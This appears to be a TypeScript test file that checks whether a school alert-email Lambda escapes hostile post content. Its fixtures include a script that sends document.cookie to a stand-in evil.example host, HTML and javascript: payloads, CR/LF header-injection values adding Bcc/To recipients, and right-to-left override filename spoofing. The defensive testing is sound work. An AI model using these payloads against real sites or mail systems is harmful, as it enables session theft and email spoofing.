import type { SQSBatchResponse, SQSEvent } from 'aws-lambda';
import he from 'he';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ALERT_TEXT_MAX_CHARS } from '../../../shared/cases/email/case-emails';
import { alert, schoolInput } from '../../unit/cases/fixtures';
import { startCaseStack, type CaseStack, type StoredEmail } from './harness';

let stack: CaseStack;
let notify: (event: SQSEvent) => Promise<SQSBatchResponse>;

const SCRIPT = '<script>document.location="https://evil.example/?c="+document.cookie</script>';
const HTML = '<img src=x onerror="alert(1)"><a href="javascript:alert(2)">click</a> & <b>bold</b>';
const RTL = 'Report attached: invoice\u202Efdp.exe \u2067hidden\u2069';
const BODY_50KB = `${SCRIPT} ${HTML} ${RTL} ${'lorem ipsum dolor sit amet '.repeat(1900)}`.slice(0, 50 * 1024);

/** What a reader sees in the HTML part's mention quote: tags gone, entities decoded. */
const shownMention = (html: string): string => {
  const inner = /<blockquote class="mention-text"[^>]*>([\s\S]*?)<\/blockquote>/.exec(html)![1]!;
  return he.decode(inner.replace(/<br>/g, '\n').replace(/<\/?bdi>/g, ''));
};

let email: StoredEmail;

beforeAll(async () => {
  stack = await startCaseStack();
  await stack.putSchool(schoolInput({ name: 'Ashgrove <Primary>\r\nBcc: leak@evil.example' }));
  ({ handler: notify } = await import('../../../functions/notify-alerts'));
  const hostile = alert({
    id: 'hostile-1',
    text: BODY_50KB,
    author: 'Mallory\r\nBcc: everyone@evil.example\r\nX-Injected: 1',
    title: 'Subject\r\nTo: victim@evil.example\r\n\r\n<h1>forged body</h1>\u202E',
    url: 'https://social.example/p/1?a=1&b=<x>',
  });
  expect((await notify(await stack.alertEvent(hostile))).batchItemFailures).toEqual([]);
  email = (await stack.mailbox()).find((m) => m.destination.to[0] === 'dsl@ashgrove.example')!;
});

afterAll(async () => stack?.stop());

describe('hostile mention text arrives in the mailbox escaped and readable', () => {
  it('goes to the routed recipients only: CR/LF in the author, title or school name adds no header or recipient', async () => {
    const mailbox = await stack.mailbox();
    expect(mailbox.map((m) => m.destination)).toEqual([
      { to: ['dsl@ashgrove.example'], cc: [], bcc: [] },
      { to: ['head@ashgrove.example'], cc: [], bcc: [] },
    ]);
    expect(email.subject).not.toMatch(/[\r\n]/);
    expect(email.subject.length).toBeLessThanOrEqual(150);
    const parsed = await stack.parsedEmail(email.messageId);
    expect(parsed.subject).toBe(email.subject);
    expect(parsed.to && !Array.isArray(parsed.to) ? parsed.to.value.map((a) => a.address) : []).toEqual(['dsl@ashgrove.example']);
    expect(parsed.bcc).toBeUndefined();
    expect(parsed.headers.has('x-injected')).toBe(false);
    expect(parsed.html).toBeTruthy();
    expect(parsed.text).toContain('Author: Mallory Bcc: everyone@evil.example X-Injected: 1');
  });

  it('escapes script and HTML in the HTML part, and shows the same words to the reader', () => {
    const html = email.body.html!;
    expect(html).not.toMatch(/<script|<img|<b>bold|<h1>forged|href="javascript:/i);
    expect(html).toContain('&lt;script&gt;document.location=&quot;https://evil.example/?c=&quot;+document.cookie&lt;/script&gt;');
    expect(html).toContain('<a href="https://social.example/p/1?a=1&amp;b=%3Cx%3E">');
    const shown = shownMention(html);
    expect(shown.startsWith(`${SCRIPT} ${HTML} Report attached: invoice[RLO]fdp.exe [RLI]hidden[PDI]`)).toBe(true);
  });

  it('cuts the 50 kB post with a note in both parts, and keeps the email small', () => {
    const note = /\(Shortened: showing the first ([\d,]+) of 51,200 characters\. Open the link to read the whole post\.\)/.exec(email.body.text!);
    expect(note).not.toBeNull();
    const shown = Number(note![1]!.replace(/,/g, ''));
    expect(shown).toBeGreaterThan(ALERT_TEXT_MAX_CHARS * 0.8);
    expect(shown).toBeLessThanOrEqual(ALERT_TEXT_MAX_CHARS);
    expect(email.body.html).toContain(note![0].slice(1, -1));
    // The cut text plus " …" and the visible [RLO]/[RLI]/[PDI] markers (4 characters more each).
    expect(shownMention(email.body.html!).length).toBeLessThanOrEqual(ALERT_TEXT_MAX_CHARS + 2 + 3 * 4);
    expect(email.body.text!.length + email.body.html!.length).toBeLessThan(25_000);
  });

  it('shows right-to-left overrides as visible markers and leaves no bidi control in either part', () => {
    for (const part of [email.body.text!, email.body.html!, email.subject]) {
      expect(part).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    }
    expect(email.body.text).toContain('invoice[RLO]fdp.exe [RLI]hidden[PDI]');
    expect(email.subject).toContain('[RLO]');
  });
});
